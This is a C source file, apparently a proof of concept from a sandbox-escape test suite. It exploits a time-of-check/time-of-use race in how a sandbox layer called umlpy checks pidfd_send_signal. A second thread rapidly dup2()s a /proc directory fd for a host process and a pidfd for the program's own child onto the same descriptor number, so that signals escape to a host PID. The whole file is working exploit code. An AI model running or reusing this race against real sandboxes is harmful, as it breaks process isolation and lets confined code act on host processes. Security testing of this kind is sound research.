/* TOCTOU on the fd number of pidfd_send_signal: umlpy resolves fd N in
 * /proc/PID/fdinfo, then the kernel resolves N again.  A second thread
 * dup2()s a /proc/<host pid> directory fd and a pidfd of our own child onto
 * N in a tight loop.  argv[1]: host pid; argv[2]: iterations. */
#include "escape_common.h"
#include <pthread.h>
#define N 100
static int good, bad;
static volatile int stop;
static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(good, N);
        dup2(bad, N);
    }
    return NULL;
}
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    pid_t child = fork();
    if (child == 0) {
        signal(SIGUSR1, SIG_IGN);
        for (;;) pause();
    }
    good = (int)syscall(SYS_pidfd_open, child, 0);
    char path[64];
    snprintf(path, sizeof path, "/proc/%s", argv[1]);
    bad = open(path, O_RDONLY | O_DIRECTORY);
    if (good < 0 || bad < 0) {
        printf("setup failed good=%d bad=%d\n", good, bad);
        kill(child, SIGKILL);
        return 1;
    }
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    long iters = argl(argv, 2), ok = 0;
    for (long i = 0; i < iters; i++)
        if (syscall(SYS_pidfd_send_signal, N, SIGUSR1, NULL, 0) == 0) ok++;
    stop = 1;
    pthread_join(t, NULL);
    printf("sent=%ld of %ld\n", ok, iters);
    kill(child, SIGKILL);
    return 0;
}
